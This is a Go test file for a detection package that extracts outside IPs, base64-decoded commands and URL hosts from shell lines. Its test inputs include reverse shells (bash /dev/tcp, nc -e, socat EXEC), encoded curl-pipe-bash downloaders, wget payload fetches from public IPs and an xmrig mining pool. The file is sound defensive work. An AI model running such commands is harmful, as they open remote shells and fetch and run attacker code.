package mitigate

import (
	"strings"
	"testing"
)

func TestOutside(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{"wget -q -O /tmp/x http://91.92.241.103:8000/amd64/fc", "91.92.241.103"},
		{"bash -i >& /dev/tcp/45.9.148.35/4444 0>&1", "45.9.148.35"},
		{"bash -c 'exec 5<>/dev/tcp/45.9.148.35/4444;cat <&5'", "45.9.148.35"},
		{"nc -e /bin/sh 185.220.101.45 4444", "185.220.101.45"},
		{"socat TCP:45.9.148.35:443 EXEC:sh", "45.9.148.35"},
		{"ssh -R 80:127.0.0.1:80 root@45.9.148.35", "45.9.148.35"},
		{"frpc --server=45.9.148.35:7000", "45.9.148.35"},
		{`python3 -c import socket;s.connect(("45.9.148.35",4444))`, "45.9.148.35"},
		{"curl http://[2a03:b0c0::5]/x -o x", "2a03:b0c0::5"},
		{"curl http://[::ffff:45.9.148.35]/x", "45.9.148.35"},
		{"sh -c wget http://45.9.148.35/a; wget http://45.9.148.35/b; wget http://194.38.20.225/c", "45.9.148.35, 194.38.20.225"},
		{"curl http://10.0.0.1/ http://192.168.1.1 http://172.16.3.4 http://127.0.0.1 http://169.254.169.254 http://100.64.0.1 http://0.0.0.0", ""},
		{"curl http://224.0.0.1/ http://255.255.255.255/ http://[fe80::1]/ http://[::1]/ http://[fd00::1]/", ""},
		{"pip install foo==1.2.3.4", ""},
		{"curl -A Mozilla/5.0 Chrome/120.0.0.0 http://example.com/1.2.3.4", ""},
		{"apt-get install foo=1.2.3.4-5", ""},
		{"tar xf a-1.2.3.4.tar 1.2.3.4.5 1.2.3 1.2.3.400", ""},
		{"curl http://1.2.3.4.nip.io/", ""},
		{"sh -c echo Y3VybCAtZnNTTCBodHRwOi8vMTk0LjM4LjIwLjIyNS9hLnNofGJhc2g=|base64 -d|bash", "194.38.20.225"},
		{"[", ""},
		{"", ""},
	} {
		if got := strings.Join(outsideOf(c.line), ", "); got != c.want {
			t.Errorf("outsideOf(%q) = %q, want %q", c.line, got, c.want)
		}
	}
}

func TestDecoded(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{"sh -c echo Y3VybCAtZnNTTCBodHRwOi8vMTk0LjM4LjIwLjIyNS9hLnNofGJhc2g=|base64 -d|bash", "curl -fsSL http://194.38.20.225/a.sh|bash"},
		{"bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC80NS45LjE0OC4zNS80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}", "bash -i >& /dev/tcp/45.9.148.35/4444 0>&1"},
		{"echo Y3VybCAtZnNTTCBodHRwOi8vMTk0LjM4LjIwLjIyNS9hLnNofGJhc2g|base64 -d", "curl -fsSL http://194.38.20.225/a.sh|bash"},
		{"echo I2lkCmN1cmwgLXMgZXhhbXBsZS5jb20K|base64 -d", "#id curl -s example.com"},
		{"echo 7f454c4602010100000000000000000003003e00|xxd -r -p", ""},
		{"base64 -d /var/lib/vault/tls/certificate.b64", ""},
		{"echo aWQ= | base64 -d", ""}, // shorter than a name may be
		{"/usr/local/openjdk17/bin/java -XX:MaxRAMPercentage=75 -jar application.jar", ""},
		{"", ""},
	} {
		if got := decodedOf(c.line); got != c.want {
			t.Errorf("decodedOf(%q) = %q, want %q", c.line, got, c.want)
		}
	}
}

func TestURLHosts(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{"curl -fsSL -o /srv/data.csv https://data.acme.io/exports/x.csv", "data.acme.io"},
		{"sh -c wget http://evil-cdn.ru:8080/x86; wget http://EVIL-cdn.ru/b", "evil-cdn.ru"},
		{"git clone https://user.name:token@github.com/a/b", "github.com"},
		{"git clone https://token@github.com/a/b", "github.com"},
		{"curl http://45.9.148.35/x http://localhost:8080 http://db.prod.svc:80 http://node1.local http://short/", ""},
		{"curl http://a.example.com;curl http://b.example.com", "a.example.com, b.example.com"},
		{"xmrig -o stratum+tcp://pool.minexmr.com:4444", "pool.minexmr.com"},
		{"sh -c echo Y3VybCAtZnNTTCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS9hLnNofGJhc2g=|base64 -d|bash", "evil.example.com"},
		{"curl http://-x.example.com http://x..com http://.com ://", ""},
		{"curl https://", ""},
		{"", ""},
	} {
		if got := strings.Join(urlHostsOf(c.line), ", "); got != c.want {
			t.Errorf("urlHostsOf(%q) = %q, want %q", c.line, got, c.want)
		}
	}
}
